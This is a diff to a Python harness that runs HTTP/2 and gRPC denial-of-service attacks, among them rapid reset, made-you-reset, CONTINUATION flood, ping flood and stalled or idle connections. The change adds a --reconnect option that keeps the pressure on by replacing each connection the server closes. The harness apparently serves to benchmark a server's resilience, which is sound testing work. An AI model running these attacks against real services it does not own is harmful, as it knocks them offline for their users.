@@ -160,25 +160,46 @@ class Conn:
             pass
 
 
-def open_conns(args, report, deadline):
+def open_one(args, report, setup):
+    """A new connection with `setup(conn)` done; None if refused."""
+    try:
+        conn = Conn(args, report)
+    except OSError:
+        report["refused"] += 1
+        return None
+    if setup:
+        setup(conn)
+    return conn
+
+
+def reopen(args, report, setup):
+    """What `watch` calls to replace a closed connection (--reconnect)."""
+    if not args.reconnect:
+        return None
+    return lambda: open_one(args, report, setup)
+
+
+def open_conns(args, report, deadline, setup=None):
     conns = []
     for _ in range(args.connections):
         if time.monotonic() >= deadline:
             break
-        try:
-            conns.append(Conn(args, report))
-        except OSError:
-            report["refused"] += 1
+        conn = open_one(args, report, setup)
+        if conn:
+            conns.append(conn)
     return conns
 
 
-def watch(conns, deadline, step=None):
+def watch(conns, deadline, step=None, reopen=None):
     """Until `deadline`: pump every connection as data arrives, calling
-    `step(conn)` for each open one between rounds (the attack's next move)."""
+    `step(conn)` for each open one between rounds (the attack's next move).
+    With --reconnect, `reopen()` replaces each connection the server closes
+    (bench/attacks.sh keeps the pressure on for its 15 s)."""
     selector = selectors.DefaultSelector()
     for conn in conns:
         selector.register(conn.sock, selectors.EVENT_READ, conn)
     rounds = 0
+    reopened = 0
     while time.monotonic() < deadline and rounds < 10_000_000:
         rounds += 1
         timeout = 0 if step else max(0.0, min(0.05, deadline - time.monotonic()))
@@ -187,7 +208,16 @@ def watch(conns, deadline, step=None):
             conn.pump()
             if conn.closed:
                 selector.unregister(conn.sock)
+                conn.close()
+                if reopen and reopened < 1_000_000:
+                    reopened += 1
+                    new = reopen()
+                    if new:
+                        conns.append(new)
+                        selector.register(new.sock, selectors.EVENT_READ, new)
         if step:
+            if len(conns) > 4 * max(1, len(selector.get_map())):
+                conns[:] = [conn for conn in conns if not conn.closed]
             live = [conn for conn in conns if not conn.closed]
             if not live:
                 time.sleep(max(0.0, min(0.05, deadline - time.monotonic())))
@@ -200,42 +230,46 @@ def watch(conns, deadline, step=None):
 
 def attack_stall_preface(args, report, deadline):
     """Connections that stop half-way through the HTTP/2 preface."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.send(PREFACE[:10])
-    watch(conns, deadline)
+
+    conns = open_conns(args, report, deadline, setup)
+    watch(conns, deadline, None, reopen(args, report, setup))
     return conns
 
 
 def attack_stall_headers(args, report, deadline):
     """Connections that start a HEADERS block and never finish it."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
         _, headers = conn.headers_block(HELLO)
         headers.flags.discard("END_HEADERS")
         conn.send_frames(headers)
         conn.acknowledge = False
-    watch(conns, deadline)
+
+    conns = open_conns(args, report, deadline, setup)
+    watch(conns, deadline, None, reopen(args, report, setup))
     return conns
 
 
 def attack_idle_connections(args, report, deadline):
     """Connections that complete the handshake and then send nothing."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
-    watch(conns, deadline)
+
+    conns = open_conns(args, report, deadline, setup)
+    watch(conns, deadline, None, reopen(args, report, setup))
     return conns
 
 
 def attack_idle_streams(args, report, deadline):
     """Connections that open two unary streams and never send the request."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
         conn.send_frames(conn.headers_block(HELLO)[1], conn.headers_block(HELLO)[1])
-    watch(conns, deadline)
+
+    conns = open_conns(args, report, deadline, setup)
+    watch(conns, deadline, None, reopen(args, report, setup))
     return conns
 
 
@@ -244,9 +278,10 @@ def attack_idle_streams(args, report, deadline):
 def attack_made_you_reset(args, report, deadline):
     """Requests each followed by a stream WINDOW_UPDATE that overflows the
     window: the server must reset the stream (FLOW_CONTROL_ERROR) itself."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
+
+    conns = open_conns(args, report, deadline, setup)
 
     def step(conn):
         frames = []
@@ -258,15 +293,16 @@ def attack_made_you_reset(args, report, deadline):
                        WindowUpdateFrame(stream, 2**31 - 1), WindowUpdateFrame(stream, 2**31 - 1)]
         conn.send_frames(*frames)
 
-    watch(conns, deadline, step)
+    watch(conns, deadline, step, reopen(args, report, setup))
     return conns
 
 
 def attack_rapid_reset(args, report, deadline):
     """Requests each cancelled by the client at once."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
+
+    conns = open_conns(args, report, deadline, setup)
 
     def step(conn):
         frames = []
@@ -275,7 +311,7 @@ def attack_rapid_reset(args, report, deadline):
             frames += [headers, RstStreamFrame(stream, error_code=8)]
         conn.send_frames(*frames)
 
-    watch(conns, deadline, step)
+    watch(conns, deadline, step, reopen(args, report, setup))
     return conns
 
 
@@ -370,35 +406,36 @@ def attack_zero_window(args, report, deadline):
 
 def attack_announced_length(args, report, deadline):
     """Streams that announce a message of --announce bytes and send 5."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
         frames = []
         for _ in range(args.streams):
             stream, headers = conn.headers_block(ITER)
             frames += [headers, DataFrame(stream, grpc_message(announced=args.announce))]
         conn.send_frames(*frames)
-    watch(conns, deadline)
+
+    conns = open_conns(args, report, deadline, setup)
+    watch(conns, deadline, None, reopen(args, report, setup))
     return conns
 
 
 def attack_ping_flood(args, report, deadline):
     """PINGs as fast as the socket takes them (h2 answers each)."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
+
+    conns = open_conns(args, report, deadline, setup)
 
     def step(conn):
         conn.send_frames(*[PingFrame(0, opaque_data=b"12345678") for _ in range(100)])
 
-    watch(conns, deadline, step)
+    watch(conns, deadline, step, reopen(args, report, setup))
     return conns
 
 
 def attack_continuation_flood(args, report, deadline):
     """A HEADERS frame followed by endless CONTINUATION frames."""
-    conns = open_conns(args, report, deadline)
-    for conn in conns:
+    def setup(conn):
         conn.handshake()
         _, headers = conn.headers_block(HELLO)
         headers.flags.discard("END_HEADERS")
@@ -406,10 +443,12 @@ def attack_continuation_flood(args, report, deadline):
         conn.acknowledge = False
         conn.stream = headers.stream_id
 
+    conns = open_conns(args, report, deadline, setup)
+
     def step(conn):
         conn.send_frames(*[ContinuationFrame(conn.stream, b"\x40\x01a\x01b") for _ in range(100)])
 
-    watch(conns, deadline, step)
+    watch(conns, deadline, step, reopen(args, report, setup))
     return conns
 
 
@@ -439,6 +478,8 @@ def main():
     parser.add_argument("--message-size", type=int, default=1024 * 1024)
     parser.add_argument("--recv-buffer", type=int, default=0)
     parser.add_argument("--duration", type=float, default=2.0)
+    parser.add_argument("--reconnect", action="store_true",
+                        help="replace each connection the server closes")
     args = parser.parse_args()
     report = {"attack": args.attack, "connections": 0, "refused": 0, "closed_by_server": 0,
               "goaway": {}, "rst": {}, "streams": 0}
